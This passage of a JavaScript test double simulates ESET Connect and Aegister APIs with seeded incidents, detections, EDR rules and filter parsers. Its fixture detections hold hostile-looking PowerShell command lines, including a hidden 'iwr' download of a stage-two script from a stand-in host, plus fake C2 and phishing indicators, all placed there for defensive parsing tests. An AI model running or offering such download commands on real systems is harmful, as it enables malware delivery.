// @ts-check
'use strict';
/**
 * A local HTTP server on 127.0.0.1 that plays ESET Connect (token endpoint and incident
 * management) and Aegister, closely enough to exercise the nodes: it records every request as it
 * arrived on the wire and answers like the vendors document.
 *
 * Used by the jest suite, `npm run demo`, the end-to-end run in real n8n and the benchmark.
 *
 * ESET
 *   POST /eset/oauth/token                      form-encoded password grant → bearer token
 *   /eset/v2/incidents…                         incidents and comments, in memory
 *   /eset/v1/detections, /eset/v2/detections…   detections: devices' listed by v1, Cloud Office's by v2
 *                                               (Get, Resolve, batchGet), linked to the incidents
 *                                               by their `detectionUuids`
 *   /eset/v2/detection-groups…                  one group per seeded detection (Get, List, Search
 *                                               with the OData-style filter, Resolve)
 *   /eset/v2/edr-rules…, /eset/v2/edr-rule-exclusions…
 *                                               EDR rules and exclusions, in memory, the XML checked
 *                                               as ESET documents it must be valid (400 otherwise)
 *   behaviour switches (see `eset`):            token lifetime, 202 + response-id, 429 bursts,
 *                                               scripted statuses, a requests-per-second limit
 *   /eset-devices/…, /eset-automation/…, /eset-quarantine/…
 *                                               device management, automation (device tasks) and
 *                                               quarantine management, each under its own prefix
 *                                               (test/support/eset-containment-double.js)
 * Aegister
 *   /aegister/api/v1/organizations              limit / offset / name paging
 *   /aegister/api/v1/V-Ciso/incidents/{org}/{id}         PATCH
 *   /aegister/api/v1/V-Ciso/incidents/{org}/threat-intel POST
 */
const http = require('node:http');
const { randomUUID } = require('node:crypto');

const { containmentAnswer, freshContainmentState } = require('./eset-containment-double');

const ESET_USER = 'api-user@example.com';
const ESET_PASSWORD = 'eset-test-password-Z9!';
const AEGISTER_TOKEN = 'aegister-test-token-Q7x';

/** Every ESET API path of the double: incident management and the containment services. */
const ESET_API = /^\/eset(?:-devices|-automation|-quarantine)?\/v[12]\//;

/** @typedef {{ method: string, path: string, rawPath: string, query: Record<string,string>, queryAll: Record<string,string[]>, headers: import('node:http').IncomingHttpHeaders, rawBody: string, body: any, at: number, answered?: { status: number, body: unknown } }} RecordedRequest */
/** @typedef {{ status: number, headers?: Record<string,string>, body?: any }} ScriptedResponse */

/**
 * @param {number} count
 * @param {any[]} detections  linked to the incidents through their `incidentNumber`
 */
function seedIncidents(count = 5, detections = []) {
	const statuses = ['INCIDENT_STATUS_OPEN', 'INCIDENT_STATUS_IN_PROGRESS', 'INCIDENT_STATUS_OPEN'];
	const incidents = [];
	for (let i = 1; i <= count; i++) {
		const detectionUuids = detections
			.filter((d) => d.incidentNumber === i)
			.map((d) => d.detection.uuid);
		incidents.push({
			uuid: `00000000-0000-4000-8000-${String(i).padStart(12, '0')}`,
			displayName: i % 2 ? `Suspicious PowerShell on host-${i}` : `FP: scanner noise on host-${i}`,
			description: `Seeded incident ${i}`,
			severity: i % 3 ? 'INCIDENT_SEVERITY_LEVEL_MEDIUM' : 'INCIDENT_SEVERITY_LEVEL_HIGH',
			status: statuses[i % statuses.length],
			// incident 3 (open, high) is linked to Aegister incident 101 (examples/eset-to-aegister-nis2.json)
			tags: i === 3 ? ['edr', 'aegister:101'] : i % 2 ? ['edr'] : ['false-positive-candidate'],
			assigneeUuid: '',
			createTime: `2026-11-0${1 + (i % 9)}T10:00:00Z`,
			updateTime: `2026-11-0${1 + (i % 9)}T11:00:00Z`,
			metrics: { deviceCount: i === 3 ? 2 : 1, executableCount: i, processCount: 2 * i },
			resolveReason: 'INCIDENT_RESOLVE_REASON_UNSPECIFIED',
			// incident 3 also reached the file server, device-6 (examples/eset-contain-incident.json)
			deviceUuids: i === 3 ? ['device-3', 'device-6'] : [`device-${i}`],
			// ESET's JSON encoder may leave an empty list out
			...(detectionUuids.length ? { detectionUuids } : {}),
		});
	}
	return incidents;
}

/** `00000000-0000-4000-9000-IIIIIINNNNNN`: detection N of incident I. */
function detectionUuid(/** @type {number} */ incident, /** @type {number} */ n) {
	return `00000000-0000-4000-9000-${String(incident).padStart(6, '0')}${String(n).padStart(6, '0')}`;
}

const POWERSHELL = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';

/**
 * Detections in the shape of ESET's `incident_managementv2Detection`, each with the number of the
 * seeded incident it belongs to. Incidents 1 and 3 carry evidence in every documented place an
 * indicator can be (object hash and URL, file and e-mail hashes, e-mail URLs and sender addresses,
 * network traffic), with duplicates across detections and look-alike indicators in free text
 * (circumstances, command lines, notes) that must never be extracted; detection 3 of incident 1 has
 * no indicator at all.
 * @returns {Array<{ incidentNumber: number, detection: any }>}
 */
function seedDetections() {
	const device = (/** @type {number} */ i) => ({ uuid: `device-${i}`, displayName: `host-${i}` });
	return [
		{
			incidentNumber: 1,
			detection: {
				uuid: detectionUuid(1, 1),
				displayName: 'PowerShell/TrojanDownloader.Agent.AXY trojan',
				typeName: 'Trojan',
				category: 'DETECTION_CATEGORY_ANTIVIRUS',
				circumstances: `Event occurred on a newly created file by the application: ${POWERSHELL} (9C1E2B1A0F0E0D0C0B0A09080706050403020100), which also contacted 192.0.2.200 and http://free-text.example/not-an-indicator.`,
				device: device(1),
				userName: 'ACME\\anna',
				objectName: 'C:\\Users\\anna\\AppData\\Local\\Temp\\invoice.exe',
				objectTypeName: 'File',
				// upper case, as in ESET's examples; the file's own hash below repeats it in lower case
				objectHashSha1: '3395856CE81F2B7382DEE72602F798B642F14140',
				objectSizeBytes: '73802',
				objectUrl: 'https://downloads.malware-host.example/payload/invoice.exe',
				file: {
					path: 'C:\\Users\\anna\\AppData\\Local\\Temp\\invoice.exe',
					hashSha1: '3395856ce81f2b7382dee72602f798b642f14140',
					hashSha2256: '275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f',
					sizeBytes: '73802',
					origin: 'OBJECT_ORIGIN_DEVICE',
				},
				process: {
					uuid: '7a4c0d52-6a0e-4b7e-9a34-1d2c3b4a5f61',
					path: POWERSHELL,
					commandLine:
						'powershell.exe -nop -w hidden -c "iwr https://cmdline.example/stage2.ps1 -OutFile $env:TEMP\\invoice.exe"',
				},
				networkTraffic: {
					direction: 'NETWORK_TRAFFIC_DIRECTION_OUTBOUND',
					localIpAddress: '10.20.30.41',
					localMacAddress: '00:1a:2b:3c:4d:5e',
					localPort: 49711,
					protocolKeyword: 'TCP',
					remoteIpAddress: '203.0.113.45',
					remoteMacAddress: '00:00:5e:00:53:01',
					remotePort: 443,
				},
				occurTime: '2026-11-02T09:58:00Z',
				resolved: false,
				severityLevel: 'SEVERITY_LEVEL_HIGH',
				severityScore: 80,
				responses: [
					{
						actionType: 'OBJECT_ACTION_TYPE_DELETE',
						displayName: 'Cleaned by deleting',
						protectionName: 'Real-time file system protection',
						deviceRestartRequired: false,
					},
				],
			},
		},
		{
			incidentNumber: 1,
			detection: {
				uuid: detectionUuid(1, 2),
				displayName: 'Botnet.CnC.Generic',
				typeName: 'Botnet communication',
				category: 'DETECTION_CATEGORY_NETWORK_INTRUSION',
				device: device(1),
				userName: 'ACME\\anna',
				objectName: 'http://203.0.113.45/gate.php',
				objectTypeName: 'URL',
				objectUrl: 'http://203.0.113.45/gate.php',
				process: { uuid: '7a4c0d52-6a0e-4b7e-9a34-1d2c3b4a5f61', path: POWERSHELL },
				networkTraffic: {
					direction: 'NETWORK_TRAFFIC_DIRECTION_OUTBOUND',
					localIpAddress: '10.20.30.41',
					localPort: 49712,
					protocolKeyword: 'TCP',
					remoteIpAddress: '203.0.113.45',
					remotePort: 80,
				},
				occurTime: '2026-11-02T09:58:30Z',
				resolved: false,
				severityLevel: 'SEVERITY_LEVEL_HIGH',
				severityScore: 75,
				responses: [
					{
						actionType: 'OBJECT_ACTION_TYPE_TERMINATE',
						displayName: 'Connection terminated',
						protectionName: 'Network attack protection',
					},
				],
			},
		},
		{
			incidentNumber: 1,
			detection: {
				uuid: detectionUuid(1, 3),
				displayName: 'Suspicious PowerShell command line [A0103]',
				typeName: 'EDR rule',
				category: 'DETECTION_CATEGORY_EDR_RULE',
				edrRuleUuid: 'edr-rule-a0103',
				circumstances:
					'PowerShell ran an encoded command that downloads from 198.51.100.250 (see https://circumstances.example/x).',
				note: 'Analyst: probably related to evil.example',
				device: device(1),
				userName: 'ACME\\anna',
				objectName: POWERSHELL,
				objectTypeName: 'Process',
				process: {
					uuid: '7a4c0d52-6a0e-4b7e-9a34-1d2c3b4a5f61',
					path: POWERSHELL,
					commandLine: 'powershell.exe -enc SQBFAFgA http://192.0.2.10/x',
				},
				triggeringEvent: {
					type: 'TRIGGERING_EVENT_TYPE_PROCESS_STARTED',
					data: { url: 'http://triggering-event.example/', ip: '192.0.2.11' },
				},
				occurTime: '2026-11-02T09:57:00Z',
				resolved: false,
				severityLevel: 'SEVERITY_LEVEL_MEDIUM',
				severityScore: 55,
			},
		},
		{
			incidentNumber: 2,
			detection: {
				uuid: detectionUuid(2, 1),
				displayName: 'Eicar test file',
				typeName: 'Test file',
				category: 'DETECTION_CATEGORY_ANTIVIRUS',
				device: device(2),
				objectName: 'C:\\scanner\\eicar.com',
				objectTypeName: 'File',
				objectHashSha1: '3395856ce81f2b7382dee72602f798b642f14140',
				occurTime: '2026-11-03T10:00:00Z',
				resolved: true,
				note: 'Vulnerability scanner',
				severityLevel: 'SEVERITY_LEVEL_LOW',
				severityScore: 20,
			},
		},
		{
			incidentNumber: 3,
			detection: {
				uuid: detectionUuid(3, 1),
				displayName: 'HTML/Phishing.Agent.DLX trojan',
				typeName: 'Phishing',
				category: 'DETECTION_CATEGORY_ANTIVIRUS',
				cloudOfficeTenantUuid: 'tenant-acme-m365',
				device: device(3),
				objectName: 'Invoice_2026-11.zip',
				objectTypeName: 'Email attachment',
				objectHashSha1: 'b7e23ec29af22b0b4e41da31e868d57226121c84',
				email: {
					uuid: 'mail-7f2c',
					subject: 'Invoice overdue',
					from: 'Billing <billing@invoice-portal.example>',
					to: 'anna@acme.example',
					senderIpAddress: '198.51.100.23',
					containedUrls: ['https://login.invoice-portal.example/acme/signin'],
					attachments: [
						{
							path: 'Invoice_2026-11.zip',
							hashSha1: 'B7E23EC29AF22B0B4E41DA31E868D57226121C84',
							containedFiles: [
								{
									path: 'Invoice_2026-11.html',
									hashSha1: 'da39a3ee5e6b4b0d3255bfef95601890afd80709',
									hashSha2256: 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
								},
							],
						},
					],
					bodyParts: [{ path: 'body.html', hashSha1: '2fd4e1c67a2d28fced849ee1bb76e7391b93eb12' }],
					mtaSmtpDetails: {
						hello: 'mail.invoice-portal.example',
						sender: 'billing@invoice-portal.example',
						senderIpAddress: '198.51.100.23',
						recipients: ['anna@acme.example'],
					},
					origin: 'OBJECT_ORIGIN_MS_OFFICE365',
				},
				occurTime: '2026-11-04T07:40:00Z',
				resolved: false,
				severityLevel: 'SEVERITY_LEVEL_HIGH',
				severityScore: 85,
				responses: [
					{
						actionType: 'OBJECT_ACTION_TYPE_QUARANTINE',
						displayName: 'Email quarantined',
						protectionName: 'Mail protection',
					},
				],
			},
		},
		{
			incidentNumber: 3,
			detection: {
				uuid: detectionUuid(3, 2),
				displayName: 'Phishing page blocked',
				typeName: 'Phishing website',
				category: 'DETECTION_CATEGORY_WEB_ACCESS',
				device: device(3),
				userName: 'ACME\\anna',
				objectName: 'https://login.invoice-portal.example/acme/signin',
				objectTypeName: 'URL',
				objectUrl: 'https://login.invoice-portal.example/acme/signin',
				networkTraffic: {
					direction: 'NETWORK_TRAFFIC_DIRECTION_OUTBOUND',
					localIpAddress: '10.20.30.43',
					remoteIpAddress: '2001:DB8:0:0:0:0:0:7',
					remotePort: 443,
					protocolKeyword: 'TCP',
				},
				occurTime: '2026-11-04T07:42:00Z',
				resolved: false,
				severityLevel: 'SEVERITY_LEVEL_HIGH',
				severityScore: 70,
			},
		},
		{
			incidentNumber: 4,
			detection: {
				uuid: detectionUuid(4, 1),
				displayName: 'Port scanning attack',
				typeName: 'TCP Port scanning attack',
				category: 'DETECTION_CATEGORY_NETWORK_INTRUSION',
				device: device(4),
				networkTraffic: {
					direction: 'NETWORK_TRAFFIC_DIRECTION_INBOUND',
					localIpAddress: '10.20.30.44',
					remoteIpAddress: '10.20.30.250',
					protocolKeyword: 'TCP',
				},
				occurTime: '2026-11-05T10:00:00Z',
				resolved: false,
				severityLevel: 'SEVERITY_LEVEL_LOW',
				severityScore: 30,
			},
		},
	];
}

/**
 * `count` plain detections (one every minute from 2026-10-01T00:00:00Z), for paging and chunking.
 * @param {number} count
 * @param {number} [incidentNumber]  the seeded incident they belong to
 */
function generatedDetections(count, incidentNumber = 0) {
	return Array.from({ length: count }, (_, index) => ({
		incidentNumber,
		detection: {
			uuid: detectionUuid(900 + incidentNumber, index + 1),
			displayName: `Generated detection ${index + 1}`,
			typeName: 'Trojan',
			device: { uuid: 'device-bulk', displayName: 'bulk-host' },
			objectHashSha1: (index + 1).toString(16).padStart(40, '0'),
			occurTime: new Date(Date.UTC(2026, 9, 1) + index * 60_000)
				.toISOString()
				.replace('.000Z', 'Z'),
			resolved: false,
			severityLevel: 'SEVERITY_LEVEL_MEDIUM',
			severityScore: 50,
		},
	}));
}

/** `00000000-0000-4000-a000-…`: the group of a detection (same suffix). @param {string} uuid */
function detectionGroupUuid(uuid) {
	return uuid.replace('-9000-', '-a000-');
}

/**
 * One detection group per detection, in the shape of ESET's `v2DetectionGroup`: it inherits the
 * attributes of its (here: only) occurrence and lists it in `detectionOccurenceUuids`.
 * @param {any[]} detections
 */
function seedDetectionGroups(detections) {
	return detections.map((detection) => ({
		...JSON.parse(JSON.stringify(detection)),
		uuid: detectionGroupUuid(detection.uuid),
		detectionOccurenceUuids: [detection.uuid],
		groupSize: 1,
		resolvedCount: detection.resolved ? 1 : 0,
	}));
}

const POWERSHELL_RULE_XML = `<?xml version="1.0" encoding="utf-8"?>
<rule>
  <definition>
    <process>
      <operator type="AND">
        <condition component="FileItem" property="FileNameWithoutExtension" condition="is" value="powershell" />
      </operator>
    </process>
  </definition>
  <description>
    <name>Suspicious PowerShell command line [A0103]</name>
  </description>
</rule>`;

/** EDR rules in the shape of ESET's `v2EdrRule`; A0103 is the rule that raised detection 3 of incident 1. */
function seedEdrRules() {
	const rule = (
		/** @type {string} */ uuid,
		/** @type {string} */ name,
		/** @type {string} */ severityLevel,
		/** @type {number} */ severityScore,
		enabled = true,
	) => ({
		uuid,
		displayName: name,
		enabled,
		severityLevel,
		severityScore,
		scopes: [],
		xmlDefinition: POWERSHELL_RULE_XML.replace('Suspicious PowerShell command line [A0103]', name),
		authorUuid: 'eset',
		editorUuid: 'eset',
	});
	return [
		rule(
			'edr-rule-a0103',
			'Suspicious PowerShell command line [A0103]',
			'SEVERITY_LEVEL_MEDIUM',
			55,
		),
		rule('edr-rule-a0201', 'Rundll32 made a network connection [A0201]', 'SEVERITY_LEVEL_HIGH', 70),
		rule(
			'edr-rule-d0001',
			'Diagnostic: new service installed [D0001]',
			'SEVERITY_LEVEL_LOW',
			20,
			false,
		),
	];
}

function seedEdrRuleExclusions() {
	return [
		{
			uuid: 'exclusion-backup-agent',
			displayName: 'Backup agent connects out',
			enabled: true,
			note: 'The backup agent uploads to the vault',
			ruleUuids: ['edr-rule-a0201'],
			scopes: [{ deviceGroupUuid: 'device-group-servers' }],
			xmlDefinition:
				'<rule><definition><process><operator type="AND"><condition component="FileItem" property="FileNameWithoutExtension" condition="is" value="backup-agent" /></operator></process></definition><description><name>Backup agent connects out</name></description></rule>',
			authorUuid: 'api-user',
			editorUuid: 'api-user',
		},
	];
}

/**
 * What ESET would say about an XML definition, if anything: the double checks that it is XML
 * (elements nest and close, attributes are quoted, one root) and that the root is <rule> with a
 * <definition>, as the rules guide's body structure has it — enough to answer 400 like ESET.
 * @param {unknown} xml
 */
function xmlDefinitionProblem(xml) {
	if (typeof xml !== 'string' || !xml.trim()) return 'xmlDefinition is required';
	const text = xml
		.replace(/<\?[\s\S]*?\?>/g, '')
		.replace(/<!--[\s\S]*?-->/g, '')
		.replace(/<!\[CDATA\[[\s\S]*?\]\]>/g, '');
	const stack = [];
	let roots = 0;
	for (const match of text.matchAll(
		/<(\/?)([A-Za-z_][\w.-]*)((?:\s+[\w.:-]+\s*=\s*(?:"[^"<]*"|'[^'<]*'))*)\s*(\/?)>|</g,
	)) {
		const [, closing, name, , selfClosing] = match;
		if (!name) return 'invalid xml definition: malformed markup';
		if (closing) {
			if (stack.pop() !== name) return `invalid xml definition: unexpected </${name}>`;
		} else {
			if (stack.length === 0) roots++;
			if (roots === 1 && stack.length === 0 && name !== 'rule')
				return `invalid rule definition: the root element is <${name}>, expected <rule>`;
			if (!selfClosing) stack.push(name);
		}
	}
	if (stack.length) return `invalid xml definition: <${stack.at(-1)}> is not closed`;
	if (roots !== 1) return 'invalid xml definition: expected one root element';
	if (!/<definition[\s>/]/.test(text)) return 'invalid rule definition: <definition> is missing';
	return undefined;
}

/** The name ESET derives displayName from: the rule's description/name. @param {string} xml */
function nameInXml(xml) {
	const match = /<description>[\s\S]*?<name>([\s\S]*?)<\/name>/.exec(xml);
	return match
		? match[1]
				.replace(/&lt;/g, '<')
				.replace(/&gt;/g, '>')
				.replace(/&quot;/g, '"')
				.replace(/&apos;/g, "'")
				.replace(/&amp;/g, '&')
				.trim()
		: '';
}

/** @param {unknown} scopes @returns {string | undefined} */
function scopesProblem(scopes) {
	if (scopes === undefined) return undefined;
	if (!Array.isArray(scopes)) return 'scopes must be a list';
	for (const scope of scopes) {
		if (!scope || typeof scope !== 'object' || Array.isArray(scope))
			return 'each scope must be an object';
		const keys = Object.keys(scope);
		if (
			keys.length === 0 ||
			keys.some(
				(key) =>
					!['deviceUuid', 'deviceGroupUuid'].includes(key) ||
					typeof scope[key] !== 'string' ||
					!scope[key],
			)
		) {
			return `invalid scope ${JSON.stringify(scope)}: deviceUuid or deviceGroupUuid expected`;
		}
	}
	return undefined;
}

/**
 * Evaluates the filter of `POST /v2/detection-groups:search` as ESET's OpenAPI documents it:
 * `eq ne gt ge lt le`, `and`, `or`, parentheses, nested fields in dot notation, numbers, strings
 * in double quotes (no escape is documented: a string ends at the next `"`), booleans compared
 * with numbers (`resolved eq 0`). Returns a predicate, or the problem ESET would answer 400 with.
 * @param {string} filter
 * @returns {{ matches: (group: any) => boolean } | { problem: string }}
 */
function compileSearchFilter(filter) {
	const tokens = [];
	const pattern =
		/\s*(?:(\()|(\))|("[^"]*")|(-?\d+(?:\.\d+)?)|([A-Za-z_][\w]*(?:\.[A-Za-z_]\w*)*))/y;
	let at = 0;
	while (at < filter.length) {
		if (/^\s*$/.test(filter.slice(at))) break;
		pattern.lastIndex = at;
		const m = pattern.exec(filter);
		if (!m) return { problem: `invalid filter: unexpected character at ${at}` };
		at = pattern.lastIndex;
		if (m[1]) tokens.push({ kind: '(' });
		else if (m[2]) tokens.push({ kind: ')' });
		else if (m[3]) tokens.push({ kind: 'value', value: m[3].slice(1, -1) });
		else if (m[4]) tokens.push({ kind: 'value', value: Number(m[4]) });
		else if (['and', 'or'].includes(m[5])) tokens.push({ kind: m[5] });
		else if (['eq', 'ne', 'gt', 'ge', 'lt', 'le'].includes(m[5]))
			tokens.push({ kind: 'op', value: m[5] });
		else if (['true', 'false'].includes(m[5]))
			tokens.push({ kind: 'value', value: m[5] === 'true' });
		else tokens.push({ kind: 'field', value: m[5] });
	}
	const FIELDS = [
		'resolved',
		'severityScore',
		'severityLevel',
		'device',
		'displayName',
		'typeName',
		'objectTypeName',
		'objectName',
		'objectHashSha1',
		'edrRuleUuid',
		'category',
		'occurTime',
		'userName',
		'groupSize',
		'resolvedCount',
		'cloudOfficeTenantUuid',
		'process',
		'uuid',
	];
	let position = 0;
	/** @returns {(group: any) => boolean} */
	const parseOr = () => {
		const left = parseAnd();
		if (tokens[position]?.kind !== 'or') return left;
		position++;
		const right = parseOr();
		return (g) => left(g) || right(g);
	};
	/** @returns {(group: any) => boolean} */
	const parseAnd = () => {
		const left = parsePrimary();
		if (tokens[position]?.kind !== 'and') return left;
		position++;
		const right = parseAnd();
		return (g) => left(g) && right(g);
	};
	/** @returns {(group: any) => boolean} */
	const parsePrimary = () => {
		const token = tokens[position++];
		if (token?.kind === '(') {
			const inner = parseOr();
			if (tokens[position++]?.kind !== ')') throw new Error('invalid filter: ")" expected');
			return inner;
		}
		const [op, literal] = [tokens[position++], tokens[position++]];
		if (token?.kind !== 'field' || op?.kind !== 'op' || literal?.kind !== 'value')
			throw new Error('invalid filter: "field op value" expected');
		const path = String(token.value).split('.');
		if (!FIELDS.includes(path[0])) throw new Error(`invalid filter: unknown field ${token.value}`);
		const compare = {
			eq: (/** @type {any} */ a, /** @type {any} */ b) => a === b,
			ne: (/** @type {any} */ a, /** @type {any} */ b) => a !== b,
			gt: (/** @type {any} */ a, /** @type {any} */ b) => a > b,
			ge: (/** @type {any} */ a, /** @type {any} */ b) => a >= b,
			lt: (/** @type {any} */ a, /** @type {any} */ b) => a < b,
			le: (/** @type {any} */ a, /** @type {any} */ b) => a <= b,
		}[/** @type {'eq'} */ (op.value)];
		return (group) => {
			let value = path.reduce((object, key) => (object == null ? undefined : object[key]), group);
			if (typeof value === 'boolean' && typeof literal.value === 'number') value = value ? 1 : 0;
			if (value === undefined && typeof literal.value === 'number' && path[0] === 'resolved')
				value = 0;
			return compare(value, literal.value);
		};
	};
	try {
		const matches = tokens.length ? parseOr() : () => true;
		if (position !== tokens.length)
			return { problem: 'invalid filter: unexpected input after the expression' };
		return { matches };
	} catch (error) {
		return { problem: /** @type {Error} */ (error).message };
	}
}

function seedOrganizations(count = 3) {
	const organizations = [];
	for (let i = 1; i <= count; i++) {
		organizations.push({
			id: i,
			name: i === 1 ? 'ACME Energia S.p.A.' : `Organization ${i}`,
			description: `Org ${i}`,
		});
	}
	return organizations;
}

const THREAT_INTEL = {
	ip: {
		crime_score: 87,
		country: 'NL',
		organization: 'Bulletproof Hosting BV',
		is_malicious: true,
		threat_types: ['c2', 'botnet'],
	},
	domain: {
		crime_score: 64,
		country: 'RU',
		organization: 'Registrar X',
		is_malicious: true,
		threat_types: ['phishing'],
	},
	url: {
		crime_score: 12,
		country: 'US',
		organization: 'CDN Inc',
		is_malicious: false,
		threat_types: [],
	},
	hash: {
		crime_score: 95,
		country: null,
		organization: null,
		is_malicious: true,
		threat_types: ['ransomware'],
	},
};

/** @returns {Array<{ match: (r: RecordedRequest) => boolean, response: ScriptedResponse | ((r: RecordedRequest) => ScriptedResponse | undefined), times: number }>} */
function freshScripts() {
	return [];
}

let esetGeneration = 0;

function seededIncidentsAndDetections() {
	const detections = seedDetections();
	const plain = detections.map((d) => d.detection);
	return {
		incidents: seedIncidents(5, detections),
		detections: plain,
		detectionGroups: seedDetectionGroups(plain),
		edrRules: seedEdrRules(),
		edrRuleExclusions: seedEdrRuleExclusions(),
	};
}

/** @param {boolean} newApiUser */
function freshEsetState(newApiUser = false) {
	return {
		/**
		 * the API user; with `newApiUser` another one, so that the nodes' per-process token store and
		 * rate limiter start afresh (as for another API user)
		 */
		user: newApiUser ? ESET_USER.replace('@', `-${++esetGeneration}@`) : ESET_USER,
		/** access tokens issued and still valid, newest last */
		tokens: /** @type {string[]} */ ([]),
		/** `POST /v2/detections:batchGet` answers 501, as some tenants may */
		batchGetUnsupported: false,
		/** every token answer given, valid or not */
		grants: /** @type {Array<{ accessToken: string, refreshToken: string }>} */ ([]),
		/** let any number of issued tokens stay valid (false: only the newest) */
		keepOldTokensValid: true,
		/** when set, requests are counted per token and more than this many in a rolling second get 429 */
		requestsPerSecondLimit: /** @type {number | undefined} */ (undefined),
		/** per response-id: how many more 202s before the real answer */
		pending: /** @type {Map<string, { remaining: number, key: string, collected: boolean }>} */ (
			new Map()
		),
		/** answer this many next incident-management calls with 202 + response-id first */
		slowResponses: 0,
		/** how many 202 polls a slow response needs before it is ready */
		pollsUntilReady: 1,
		tooManyRequestsSent: 0,
		...seededIncidentsAndDetections(),
		...freshContainmentState(),
		comments: /** @type {Map<string, any[]>} */ (new Map()),
		/** minimum ms to answer an incident-management call */
		latencyMs: 0,
		/** incident-management calls received and not yet answered, now and at most */
		inFlight: 0,
		maxInFlight: 0,
	};
}

function freshAegisterState() {
	return {
		organizations: seedOrganizations(),
		incidents: new Map(
			[
				[
					1,
					{
						id: 101,
						organization_id: 1,
						title: 'Ransomware on file server',
						reference_code: 'CSIRT-2026-001',
						status: 'draft',
						classification: {},
						metadata: {},
						'24h_notification': {},
						'72h_notification': {},
						full_report: {},
					},
				],
			].map(([org, incident]) => [`${org}/${/** @type {any} */ (incident).id}`, incident]),
		),
	};
}

/** A detection as `GET /v1/detections` lists it (incident_managementv1Detection). @param {any} d */
function v1Detection(d) {
	const {
		uuid,
		displayName,
		typeName,
		objectName,
		objectTypeName,
		objectUrl,
		objectHashSha1,
		occurTime,
		severityLevel,
	} = d;
	return {
		uuid,
		displayName,
		typeName,
		category:
			d.category === 'DETECTION_CATEGORY_EDR_RULE'
				? 'DETECTION_CATEGORY_CORRELATION_RULE'
				: d.category,
		objectName,
		objectTypeName,
		...(objectUrl ? { objectUrl } : {}),
		...(objectHashSha1 ? { objectHashSha1 } : {}),
		occurTime,
		severityLevel,
		responses: (d.responses ?? []).map((/** @type {any} */ { actionType, ...rest }) => rest),
		context: {
			deviceUuid: d.device?.uuid,
			...(d.userName ? { userName: d.userName } : {}),
			...(d.circumstances ? { circumstances: d.circumstances } : {}),
			...(d.process?.path ? { process: { path: d.process.path } } : {}),
		},
	};
}

const SNAKE_TO_CAMEL = {
	create_time: 'createTime',
	update_time: 'updateTime',
	display_name: 'displayName',
	assignee_uuid: 'assigneeUuid',
	device_uuids: 'deviceUuids',
	severity: 'severity',
	status: 'status',
	tags: 'tags',
};
const CAMEL_FIELDS = new Set(Object.values(SNAKE_TO_CAMEL));

/** The incident property of an orderBy field, snake or lower camel case (`create_time`, `createTime`). @param {string} name */
const field = (name) =>
	/** @type {Record<string,string>} */ (SNAKE_TO_CAMEL)[name] ??
	(CAMEL_FIELDS.has(name) ? name : undefined);

/** The property of a filter field: ESET's help writes every one with the `incident.` prefix. @param {string} name */
const filterField = (name) =>
	name.startsWith('incident.') ? field(name.slice('incident.'.length)) : undefined;

const STRING = '("(?:[^"\\\\]|\\\\.)*")';
const ENUM = '([A-Z][A-Z_]*)';
/** A time as ESET's help and the production poller write it: whole seconds, `Z` or an offset. */
const WHOLE_SECONDS = /^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}(Z|[+-]\d{2}:\d{2})$/;

/**
 * The conditions of ESET's filter language that a source shows ESET accepting: the examples of
 * ESET's help page for `GET /v2/incidents` (every field with the `incident.` prefix; `==`, `!=`,
 * `<=`, `>=` on times in whole seconds, `in [...]` on status and severity, `.contains(...)`,
 * `has(...)`, `size(...)`, `&&`) and what Microsoft Sentinel's production poller sends (`<`, `AND`).
 * Each returns a predicate, or undefined when it is not such a form.
 * @type {Array<[RegExp, (m: RegExpMatchArray) => ((incident: any) => boolean) | undefined]>}
 */
const FILTER_FORMS = [
	[
		new RegExp(`^([\\w.]+) (==|!=) ${STRING}$`),
		(m) => textCompare(filterField(m[1]), m[2], JSON.parse(m[3])),
	],
	[new RegExp(`^([\\w.]+) == ${ENUM}$`), (m) => enumIn(filterField(m[1]), [m[2]])],
	[
		new RegExp(`^([\\w.]+) in \\[(${ENUM.slice(1, -1)}(?:, ?${ENUM.slice(1, -1)})*)\\]$`),
		(m) => enumIn(filterField(m[1]), m[2].split(/, ?/)),
	],
	[
		/^([\w.]+) (>=|<=|<) timestamp\("([^"]+)"\)$/,
		(m) => timeCompare(filterField(m[1]), m[2], m[3]),
	],
	[
		new RegExp(`^([\\w.]+)\\.contains\\(${STRING}\\)$`),
		(m) => textContains(filterField(m[1]), JSON.parse(m[2])),
	],
	[
		/^has\(([\w.]+)\)$/,
		(m) => {
			const key = filterField(m[1]);
			return key && ((i) => i[key] !== undefined && i[key] !== '');
		},
	],
	[
		/^size\(([\w.]+)\) >= (\d+)$|^([\w.]+)\.size\(\) >= (\d+)$/,
		(m) => listSize(filterField(m[1] ?? m[3]), Number(m[2] ?? m[4])),
	],
];

/** @param {string | undefined} key @param {string} op @param {string} value */
function textCompare(key, op, value) {
	if (key !== 'displayName' && key !== 'assigneeUuid') return undefined;
	return (/** @type {any} */ i) => ((i[key] ?? '') === value) === (op === '==');
}
/** @param {string | undefined} key @param {string[]} values */
function enumIn(key, values) {
	return key === 'status' || key === 'severity'
		? (/** @type {any} */ i) => values.includes(i[key])
		: undefined;
}
/** @param {string | undefined} key @param {string} op @param {string} literal */
function timeCompare(key, op, literal) {
	if ((key !== 'createTime' && key !== 'updateTime') || !WHOLE_SECONDS.test(literal))
		return undefined;
	const time = Date.parse(literal);
	/** @type {Record<string, (a: number) => boolean>} */
	const compare = { '>=': (a) => a >= time, '<=': (a) => a <= time, '<': (a) => a < time };
	return (/** @type {any} */ i) => compare[op](Date.parse(i[key]));
}
/** @param {string | undefined} key @param {string} value */
function textContains(key, value) {
	return key === 'displayName'
		? (/** @type {any} */ i) => String(i[key] ?? '').includes(value)
		: undefined;
}
/** @param {string | undefined} key @param {number} size */
function listSize(key, size) {
	return key === 'deviceUuids'
		? (/** @type {any} */ i) => (i[key] ?? []).length >= size
		: undefined;
}

/**
 * Evaluates an incident filter the way ESET is known to: conditions joined with `&&` (or `AND`),
 * each one of FILTER_FORMS. Returns a predicate, or undefined for any other form (ESET answers 400
 * "invalid filter").
 * @param {string} filter
 * @returns {((incident: any) => boolean) | undefined}
 */
function compileEsetFilter(filter) {
	if (!filter) return () => true;
	/** @type {Array<(incident: any) => boolean>} */
	const predicates = [];
	for (const condition of filter.split(/ && | AND /).map((c) => c.trim())) {
		const predicate = FILTER_FORMS.map(([pattern, build]) => {
			const m = condition.match(pattern);
